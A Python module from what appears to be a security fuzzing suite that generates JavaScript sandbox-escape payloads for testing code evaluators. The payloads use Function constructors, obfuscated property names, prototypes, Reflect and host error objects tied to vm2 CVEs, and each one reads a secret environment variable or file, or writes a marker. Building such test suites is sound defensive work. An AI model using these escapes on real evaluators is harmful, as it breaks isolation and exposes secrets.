"""JavaScript that leaves its evaluator: constructors of functions, and what leads to one."""

from collections.abc import Iterator

from capfuzz.attacks.evaluators import MARKER, SECRET_FILE, SECRET_NAME
from capfuzz.attacks.techniques.eval_parts import evaluated

_REF = "https://cwe.mitre.org/data/definitions/94.html"
_BODY = f"return process.env.{SECRET_NAME}"
_ENDS = (
    _BODY,
    f"return process.mainModule.require('fs').readFileSync('{SECRET_FILE}', 'utf8')",
    f"return process.getBuiltinModule('fs').readFileSync('{SECRET_FILE}', 'utf8')",
    f"return process.mainModule.require('fs').writeFileSync('{MARKER}', 'x')",
)


@evaluated(
    "javascript-plain",
    group="outside-eval",
    cwe="CWE-95",
    platforms=("javascript",),
    needs="evaluates code with the globals of the host",
    refs=("https://cwe.mitre.org/data/definitions/95.html",),
)
def plain() -> Iterator[str]:
    """Name the process and require modules, as any program does."""
    yield f"process.env.{SECRET_NAME}"
    yield f"require('fs').readFileSync('{SECRET_FILE}', 'utf8')"
    yield f"process.mainModule.require('fs').readFileSync('{SECRET_FILE}', 'utf8')"
    yield f"globalThis.process.env.{SECRET_NAME}"
    yield f"eval('process.env.{SECRET_NAME}')"
    yield f"Function('{_BODY}')()"
    yield f"(function () {{ {_BODY} }})()"


_FUNCTIONS = (
    *("this.constructor", "(function () {})", "(() => 0)", "[].map", "''.sub", "(0).toFixed"),
    *("Object", "Math.abs", "abs", "sin", "cos", "sqrt", "max", "parse", "random", "console.log"),
    *("f", "x", "log", "print", "hypot", "import", "add", "[].at", "{}.constructor"),
)


@evaluated(
    "javascript-constructor",
    group="constructors",
    cwe="CWE-94",
    platforms=("javascript",),
    needs="lets code look at the constructor of a value, which makes functions of texts",
    refs=("CVE-2023-29017", _REF),
)
def constructor() -> Iterator[str]:
    """Make a function of the host by the constructor of one that is within reach."""
    for index, function in enumerate(_FUNCTIONS):
        for body in _ENDS if index == 0 else _ENDS[:1]:
            yield f'{function}.constructor("{body}")()'
    for value in ("''", "[]", "0", "({})", "true", "/a/"):
        yield f'{value}.constructor.constructor("{_BODY}")()'
    yield f'f(x) = x; f.constructor("{_BODY}")()'
    yield f'f = [].map.constructor("{_BODY}"); f()'


@evaluated(
    "javascript-constructor-spelt",
    group="constructors-spelt",
    cwe="CWE-184",
    platforms=("javascript",),
    needs="judges names behind a dot, and not those in brackets or by other methods",
    refs=(_REF,),
)
def constructor_spelt() -> Iterator[str]:
    """Name the constructor in brackets, escaped, joined, through prototypes and descriptors."""
    for name in (
        "'constructor'",
        "'const' + 'ructor'",
        "'\\x63onstructor'",
        "['constructor']",
        "`constructor`",
    ):
        yield f'[].map[{name}]("{_BODY}")()'
        yield f'[][{name}][{name}]("{_BODY}")()'
    yield f'[].map.c\\u006fnstructor("{_BODY}")()'
    yield f'[].map.__proto__.constructor("{_BODY}")()'
    yield f'Object.getPrototypeOf(function () {{}}).constructor("{_BODY}")()'
    yield f'Object.getOwnPropertyDescriptor([].map.__proto__, "constructor").value("{_BODY}")()'
    yield f'Reflect.get([].map, "constructor")("{_BODY}")()'
    yield f'Reflect.construct([].map.constructor, ["{_BODY}"])()'
    yield f'(function* () {{}}).constructor("{_BODY}")().next().value'
    yield f"[].map.constructor`{_BODY}```"
    yield f'(({{ constructor: c }}) => c("{_BODY}")())([].map)'


@evaluated(
    "javascript-host-objects",
    group="host-objects",
    cwe="CWE-913",
    platforms=("javascript",),
    needs="hands objects and errors of the host to code in a context of its own",
    refs=("CVE-2023-32314", _REF),
)
def host_objects() -> Iterator[str]:
    """Take a function of the host from an error, a caller, a proxy or what prepares stacks."""
    make = f'constructor.constructor("{_BODY}")()'
    yield f"(function () {{ try {{ null.x }} catch (e) {{ return e.{make} }} }})()"
    yield f"(function f() {{ try {{ f() }} catch (e) {{ return e.{make} }} }})()"
    yield f"(function () {{ return arguments.callee.caller.{make} }})()"
    yield (
        "(function () { Error.prepareStackTrace = (e, frames) => frames; "
        f"return new Error().stack[0].getThis().{make} }})()"
    )
    yield (
        "(function () { Error.prepareStackTrace = (e, frames) => frames.map(f => f.getFunction())"
        f".find(f => f).constructor('{_BODY}')(); return new Error().stack }})()"
    )
    yield (
        "(function () { const e = new Error(); e.name = Symbol(); "
        f"try {{ e.stack }} catch (c) {{ return c.{make} }} }})()"
    )
    yield (
        "(function () { try { new Proxy({}, { getPrototypeOf(t) { throw { t } } }) instanceof Array }"
        f" catch (e) {{ return e.t.{make} }} }})()"
    )
